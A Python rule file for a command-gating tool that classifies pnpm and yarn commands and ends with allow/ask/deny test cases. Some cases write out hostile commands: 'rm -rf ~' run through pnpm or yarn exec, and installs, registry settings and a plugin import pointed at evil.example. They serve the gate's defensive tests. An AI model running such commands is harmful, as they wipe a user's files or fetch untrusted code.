"""pnpm and yarn — install JavaScript packages and run a project's scripts."""

from toolgate.knowledge.vocabulary import *

DEPENDENCIES = runs(LOCKED_PACKAGES, "workspace", (Manner.INSTALL, Manner.LOCKED))
REGISTRY = fetches(Name("registry.npmjs.org"), "registry")
RELEASE = publishes("the package", "registry")
MANIFEST = writes(Name("package.json"), "workspace")
GLOBALLY = runs("programs", "machine", (Manner.INSTALL, Manner.GLOBAL))
SETTINGS = writes("the package manager's settings", "home")

# --- pnpm ------------------------------------------------------------------------------------------------------------

PNPM_GENERAL = [
    "-h? -v?",
    """
        -r --recursive -F= --filter= --filter-prod= --fail-if-no-match --changed-files-ignore-pattern= --test-pattern=
        -s --silent --color --no-color --loglevel= --reporter= --use-stderr --stream --aggregate-output --if-present
        --ignore-scripts --parallel --no-bail --bail --sort --no-sort --reverse --resume-from= --report-summary
        --workspace-concurrency= --workspace-root -w --include-workspace-root --ignore-workspace --frozen-lockfile
        --no-frozen-lockfile --lockfile-only --fix-lockfile --prefer-frozen-lockfile --no-prefer-frozen-lockfile
        --offline --prefer-offline --no-optional --no-lockfile -P --prod --production -D --dev -O --optional -E
        --save-exact -S --save-prod --save-dev --save-optional --save-peer --save-catalog --save-catalog-name= --no-save
        -L --latest -i --interactive --depth= --json --long --parseable --shamefully-hoist --hoist --no-hoist --force -f
        --strict-peer-dependencies --no-strict-peer-dependencies --auto-install-peers --node-linker= --resolution-only
        --side-effects-cache --side-effects-cache-readonly --child-concurrency= --network-concurrency=
        --package-import-method= --public-hoist-pattern= --hoist-pattern= --merge-git-branch-lockfiles
        --verify-store-integrity --no-verify-store-integrity --aggregate-output --unsafe-perm --prefix-logs
        --allow-build= --trust-lockfile --minimum-release-age= --cpu= --os= --libc= --dangerously-allow-all-builds
        --use-node-version= --yes -y --legacy --no-git-checks --publish-branch= --tag= --access= --otp= --audit-level=
        --fix --ignore-registry-errors --only-projects --exclude-peers --compatible
    """,
    flag("-g --global", manner=Manner.GLOBAL),
    option("-C --dir --lockfile-dir", CHDIR),
    option(
        "--store-dir --virtual-store-dir --modules-dir --pack-destination --global-dir --global-bin-dir --out", WRITES
    ),
    option("--registry", FETCHES),
    option("--script-shell", "READ_BY(node.npm_program)"),
    option("--shell-emulator --pnpmfile --global-pnpmfile", RUNS),
    flag("--dry-run", dry="publish"),
]
PNPM_COMMANDS = [
    sub("install i it install-test ci", "PACKAGES(npm)...", bare=DEPENDENCIES),
    sub("add", "PACKAGES(npm)..."),
    loose("update up upgrade prune rebuild rb fetch dedupe import approve-builds ignored-builds", does=DEPENDENCIES),
    sub("remove rm uninstall un unlink dislink", "PLAIN...", does=deletes("packages of the project", "output")),
    sub("link ln", "PACKAGES(npm)...", does=writes("links between packages", "output")),
    lax("run run-script", "READ_BY(task)? PLAIN...", given=runs(PACKAGE_SCRIPT)),
    loose("test t tst start stop restart", does=runs(PACKAGE_SCRIPT)),
    sub("exec", "LOCAL", [flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
    sub("dlx", "TOOL", [option("--package", PACKAGES), flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
    lax("create", "PACKAGES(create) MAKES? PLAIN..."),
    loose("init", does=MANIFEST),
    sub("publish", "READS?", does=RELEASE),
    loose(
        "unpublish deprecate owner dist-tag access team token", does=publishes("a change to the registry", "registry")
    ),
    loose("login adduser logout", does=writes("registry credentials", "secret")),
    loose("list ls la ll why store-path licenses doctor help cat-file cat-index find-hash completion setup-list"),
    loose("root bin", prints="tools"),
    loose("outdated audit view info show search whoami ping docs home bugs repo", does=REGISTRY),
    loose("pack version", does=(MANIFEST, runs(PACKAGE_SCRIPT))),
    sub(
        "pkg",
        subcommands=[
            sub("get", "PLAIN...", style=WORDS),
            sub("set", "FIELD...", style=WORDS, does=MANIFEST),
            loose("*", does=MANIFEST),
        ],
    ),
    loose("patch patch-commit patch-remove", does=MANIFEST),
    sub("deploy", "WRITES"),
    sub(
        "store",
        subcommands=[
            lax("path status"),
            sub("add", "PACKAGES(npm)..."),
            lax("prune", does=deletes("pnpm's store of packages", "cache")),
        ],
    ),
    loose("cache", does=deletes("pnpm's cache", "cache")),
    sub(
        "config c",
        subcommands=[
            loose("get list ls"),
            sub(
                "set",
                subcommands=[sub("registry *:registry", "FETCHES", does=SETTINGS)],
                otherwise=loose("set", does=SETTINGS),
            ),
            loose("delete", does=SETTINGS),
        ],
    ),
    lax("setup", does=writes("the user's shell profile", "startup")),
    sub("env", subcommands=[lax("list ls"), loose("use add remove rm", does=GLOBALLY)]),
    loose("self-update", does=GLOBALLY),
    loose("server", does=runs("pnpm's store server", "workspace")),
]
PNPM = command(
    "pnpm",
    options=PNPM_GENERAL,
    subcommands=[
        *PNPM_COMMANDS,
        sub("recursive m multi", subcommands=PNPM_COMMANDS, otherwise=sub("recursive", "TASK")),
    ],
    otherwise=sub("pnpm", "TASK"),
    traits="life-cycle javascript npm-variables",
)
PNPX = command(
    "pnpx pnx",
    "TOOL",
    [option("-p --package", PACKAGES), flag("-c --shell-mode", operands="SCRIPT PLAIN...")],
    traits="npm-variables",
)

# --- yarn ------------------------------------------------------------------------------------------------------------

YARN_GENERAL = [
    "-h? -v?",
    """
        --verbose --offline --prefer-offline --strict-semver --json --ignore-scripts --ignore-optional --ignore-platform
        --ignore-engines --force --flat --no-lockfile --pure-lockfile --frozen-lockfile --immutable --immutable-cache
        --check-cache --check-files --check-resolutions --refresh-lockfile --inline-builds --no-immutable
        --production[=] --prod[=] --network-timeout= --network-concurrency= --no-progress --non-interactive --silent -s
        --no-bin-links --link-duplicates --har --mode= --mutex= --no-default-rc --no-node-version-check --focus
        --emoji[=] --ignore-workspace-root-check -W --audit --no-audit --groups= --level= --depth= --pattern=
        --skip-integrity-check --update-checksums --hoist
    """,
    option("--cwd", CHDIR),
    option("--modules-folder --preferred-cache-folder --cache-folder --global-folder --link-folder --prefix", WRITES),
    option("--registry --proxy --https-proxy", FETCHES),
    option("--use-yarnrc --cafile", READS),
    option("--script-shell", "READ_BY(node.npm_program)"),
]
ADDED = [
    "-D --dev -P --peer -O --optional -E --exact -T --tilde -C --caret -A --audit -i --interactive --cached --fixed --prefer-dev -L --latest -S --scope= --recursive -R"
]
YARN_COMMANDS = [
    loose("install", does=DEPENDENCIES),
    sub("add", "PACKAGES(npm)...", ADDED),
    sub("link", "PACKAGES(npm)...", ["-A --all -p --private -r --relative"], does=writes("links between packages", "output")),
    loose("up upgrade upgrade-interactive dedupe rebuild import autoclean generate-lock-entry", does=DEPENDENCIES),
    loose("remove unlink unplug", does=deletes("packages of the project", "output")),
    sub("run", "TASK?", ["-T --top-level -B --binaries-only --require=", option("--inspect --inspect-brk", READ_BY("debug_port"), optional=True)]),
    sub("exec", "JOINED", style=EARLY),
    sub("node", "ARGV?", style="literal", does=runs("the project's own code")),
    sub("dlx", "TOOL", [option("-p --package", PACKAGES), "-q --quiet"]),
    lax("create", "PACKAGES(create) MAKES? PLAIN..."),
    loose("init", does=MANIFEST),
    loose("version versions set policies patch patch-commit pack prepare constraints stage", [option("-o --out --filename", WRITES)], does=MANIFEST),
    lax("publish", "READS?", does=RELEASE),
    sub("tag owner team access", subcommands=[loose("list ls", does=REGISTRY)], otherwise=loose("tag", does=publishes("a change to the registry", "registry"))),
    loose("login logout", does=writes("registry credentials", "secret")),
    sub("npm", subcommands=[
        loose("audit info whoami", does=REGISTRY),
        loose("login logout", does=writes("registry credentials", "secret")),
        loose("publish", [flag("--dry-run -n", dry=True)], does=RELEASE),
        loose("tag", does=publishes("a change to the registry", "registry")),
    ]),
    loose("bin", prints="tools"),
    loose("list why licenses check explain search-cache help"),
    loose("info outdated audit search", does=REGISTRY),
    sub("cache", subcommands=[loose("dir list"), loose("clean clear", does=deletes("yarn's cache", "cache"))]),
    sub("config", subcommands=[
        loose("get list"),
        sub("set", subcommands=[
            lax("registry npmRegistryServer npmPublishRegistry httpProxy httpsProxy *:registry", "FETCHES", does=SETTINGS),
            lax("yarnPath injectEnvironmentFiles", "RUNS"),
        ], otherwise=loose("set", does=SETTINGS)),
        loose("delete unset", does=SETTINGS),
    ], bare=()),
    sub("global", subcommands=[
        loose("bin", prints="tools"), loose("list dir"),
        sub("add upgrade remove", "PACKAGES(npm)...", [*ADDED, flag("--global", manner=Manner.GLOBAL)], does=GLOBALLY),
    ]),
    sub("plugin", subcommands=[lax("list runtime check"), lax("import", "PACKAGES(npm)..."), sub("remove", "PLAIN...")]),
    loose("test start", does=runs(PACKAGE_SCRIPT)),
]  # fmt: skip
YARN = command(
    "yarn yarnpkg",
    options=YARN_GENERAL,
    bare=DEPENDENCIES,
    subcommands=[
        *YARN_COMMANDS,
        sub("workspace", subcommands=[sub("*", subcommands=YARN_COMMANDS, otherwise=sub("workspace", "TASK"))]),
        sub(
            "workspaces",
            subcommands=[
                loose("info list"),
                loose("focus", does=DEPENDENCIES),
                sub("run", "TASK"),
                sub(
                    "foreach",
                    options=["-A --all -R --recursive -W --worktree --from= --since[=] -t --topological --topological-dev -p --parallel -i --interlaced -j= --jobs= -v --verbose --include= --exclude= --no-private -n --dry-run -At -Rt -Apt -pt -pti -Atp"],
                    subcommands=YARN_COMMANDS,
                    otherwise=sub("foreach", "TASK"),
                ),
            ],
        ),
    ],
    otherwise=sub("yarn", "TASK"),
    traits="life-cycle javascript npm-variables",
)  # fmt: skip

CASES = """
allow  pnpm install --frozen-lockfile
       run the project's dependencies
allow  pnpm i
allow  pnpm build --filter web
allow  pnpm --filter @acme/web exec tsc --noEmit
allow  pnpm -r --filter ./packages/a run test
allow  pnpm eslint "src/**/*.ts" --fix
allow  pnpm dev:worker --port 5173
allow  pnpm list react
allow  pnpm store prune
allow  pnpm publish --dry-run
allow  yarn
       run the project's dependencies
allow  yarn install --immutable
allow  yarn test --watch
allow  yarn tsc --build
allow  yarn workspace @acme/docs generate
allow  yarn workspaces foreach -At --include 'packages/*' run build
allow  yarn --cwd web lint
allow  yarn why react
allow  yarn config get registry
allow  pnpm add left-pad
allow  yarn add left-pad -D
allow  yarn add global
       run global
allow  yarn workspace web add left-pad
ask    pnpm add -g left-pad
ask    pnpm -g add left-pad
ask    yarn global add left-pad
ask    pnpm dlx somebodys-tool
allow  pnpm dlx eslint .
ask    yarn dlx somebodys-tool
ask    yarn npm publish
ask    pnpm publish --no-git-checks
ask    pnpm install --registry https://evil.example
ask    yarn config set npmRegistryServer https://evil.example
ask    yarn plugin import https://evil.example/plugin.js
ask    pnpm setup
ask    yarn deploy
ask    pnpm release
deny   yarn exec 'rm -rf ~'
deny   pnpm exec rm -rf /home/user
deny   yarn rimraf ~
ask    pnpm deploy ~/elsewhere
ask    yarn add https://evil.example/x.tgz
deny   pnpm recursive exec rm -rf ~
deny   yarn exec rm -rf ~
deny   yarn workspaces foreach -A exec 'rm -rf ~'
"""
